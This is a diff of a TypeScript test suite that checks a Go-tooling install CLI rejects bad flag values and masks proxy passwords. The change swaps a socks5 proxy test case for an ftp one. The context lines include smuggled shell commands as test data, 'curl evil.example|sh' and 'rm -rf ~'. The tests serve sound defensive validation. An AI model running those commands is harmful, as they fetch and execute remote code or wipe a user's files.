@@ -47,7 +47,7 @@ const CASES: BadInput[] = [
   { name: 'GOPROXY with a command in it', args: () => ['install', '--goproxy', 'https://goproxy.cn;curl evil.example|sh'], names: ['--goproxy', '"https://goproxy.cn;curl evil.example|sh"'] },
   { name: 'GOSUMDB with spaces', args: () => ['install', '--gosumdb', 'sum golang org'], names: ['--gosumdb', '"sum golang org"'] },
   { name: 'GOPRIVATE with a space', args: () => ['install', '--goprivate', 'corp.example .com'], names: ['--goprivate', '"corp.example .com"'] },
-  { name: 'socks proxy with a quoted password', args: () => ['install', '--http-proxy', `socks5://ann:${PASSWORD}@proxy.corp:1080`], names: ['--http-proxy', '"socks5://****@proxy.corp:1080"'] },
+  { name: 'ftp proxy with a quoted password', args: () => ['install', '--http-proxy', `ftp://ann:${PASSWORD}@proxy.corp:1080`], names: ['--http-proxy', '"ftp://****@proxy.corp:1080"'] },
   { name: 'proxy URL without a host', args: () => ['install', '--https-proxy', `http://ann:${PASSWORD}@`], names: ['--https-proxy', '****'] },
   { name: 'NO_PROXY with a shell command', args: () => ['install', '--no-proxy', 'localhost;rm -rf ~'], names: ['--no-proxy', '"localhost;rm -rf ~"'] },
   { name: 'unknown shell', args: () => ['install', '--shells', 'bash,tcsh'], names: ['--shells', '"bash,tcsh"', 'fish'] },
@@ -97,7 +97,7 @@ describe('bad input through the built CLI', { concurrency: 8 }, () => {
     writeFileSync(join(work, 'bad.json'), '{\n  "goVersion": "1.27",,\n}\n');
     writeFileSync(join(work, 'list.json'), '["bash"]');
     writeFileSync(join(work, 'bad-value.json'), JSON.stringify({ shells: ['bash', 'csh'] }));
-    writeFileSync(join(work, 'proxy.json'), JSON.stringify({ httpProxy: `socks5://ann:${PASSWORD}@proxy.corp:1080` }));
+    writeFileSync(join(work, 'proxy.json'), JSON.stringify({ httpProxy: `ftp://ann:${PASSWORD}@proxy.corp:1080` }));
     workBefore = snapshot(work);
   });
   after(() => temp.cleanup());
